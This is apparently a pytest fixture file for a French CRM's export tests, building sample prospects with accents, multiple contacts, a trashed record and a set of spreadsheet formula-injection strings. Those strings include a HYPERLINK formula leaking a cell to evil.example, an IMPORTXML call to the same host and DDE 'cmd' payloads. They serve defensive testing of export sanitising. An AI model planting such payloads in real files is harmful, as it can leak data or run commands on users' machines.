"""A small base with everything an export must get right: accents, a postal code with a leading
zero, phones, several contacts, a prospect without any, hostile formula text, the trash."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import timedelta

import pytest

from moovdesk.data.store import Store
from moovdesk.data.vocabulary import ActivityKind
from moovdesk.paths import Home
from moovdesk.services import Services
from tests.conftest import FIXED_NOW

# Formula text in every kind of text field (the service trims values, so none starts blank).
HOSTILE = {
    "company": '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
    "notes": "@SUM(1)",
    "activity": "+cmd|' /C calc'!A0",
    "source": "-2+3+cmd|' /C calc'!A0",
    "street": "=1+1",
    "city": "@Lyon",
    "website": '=IMPORTXML("http://evil.example","//a")',
    "last_name": "-SUM(A1:A9)",
    "job_title": "+A1",
}
NOTES = 'Ligne 1\nLigne 2; avec, virgules \\ et "guillemets"'


@dataclass(frozen=True)
class Sample:
    """Ids of the sample base's records."""

    artisan: str  # accents, two contacts, a follow-up and a call
    first_contact: str
    second_contact: str
    hostile: str  # formula text in every kind of field
    town_hall: str  # no contact person: the business's own line only
    trashed: str


@pytest.fixture
def services(home: Home, store: Store) -> Services:
    return Services.on_store(home, store, clock=lambda: FIXED_NOW)


@pytest.fixture
def sample(services: Services) -> Sample:
    prospects = services.prospects
    artisan = prospects.create(
        {
            "company": 'Œuvre d\'Étienne, Père & Fils; "SARL"',
            "civility": "M.",
            "first_name": "Étienne",
            "last_name": "Lefèvre",
            "job_title": "Gérant",
            "email": "etienne@oeuvre.example.fr",
            "phone": "04 74 12 34 56",
            "mobile": "06 12 34 56 78",
            "website": "https://oeuvre.example.fr",
            "street": "3, rue de l'Église\nBâtiment B",
            "postal_code": "1000",
            "city": "Bourg-en-Bresse",
            "latitude": 46.2052,
            "longitude": 5.2255,
            "activity": "Boulangerie",
            "siret": "12345678901234",
            "source": "Salon",
            "temperature": "hot",
            "stage": "prospect",
            "need": True,
            "budget": False,
            "zone": True,
            "timing": False,
            "tags": ["Été 2027", "VIP"],
            "notes": NOTES,
        }
    )
    first_contact = services.contacts.contacts_of(artisan)[0].id
    second_contact = services.contacts.add_contact(
        artisan,
        {
            "civility": "Mme",
            "first_name": "Zoé",
            "last_name": "Ňovák-Çelik",
            "job_title": "Comptable, paie; RH",
            "mobile": "+33 7 98 76 54 32",
            "email": "zoe@oeuvre.example.fr",
            "notes": "Préfère\nles appels le matin",
        },
    )
    services.agenda.add_follow_up(artisan, FIXED_NOW + timedelta(days=2), "Rappeler")
    services.agenda.add_follow_up(artisan, FIXED_NOW + timedelta(days=9), "Plus tard")
    services.activities.log(
        artisan, ActivityKind.CALL, occurred_at=FIXED_NOW - timedelta(days=3), subject="Appel"
    )
    hostile = prospects.create({**HOSTILE, "first_name": "Éve", "phone": "+41 22 123 45 67"})
    prospects.add_tag([hostile], "=tag")
    town_hall = prospects.create(
        {
            "company": "Mairie de Saint-Étienne",
            "phone": "04 77 00 00 00",
            "email": "accueil@mairie.example.fr",
            "postal_code": "42000",
            "city": "Saint-Étienne",
            "stage": "client",
        }
    )
    trashed = prospects.create({"company": "Corbeille SA", "temperature": "hot"})
    prospects.trash([trashed])
    return Sample(artisan, first_contact, second_contact, hostile, town_hall, trashed)
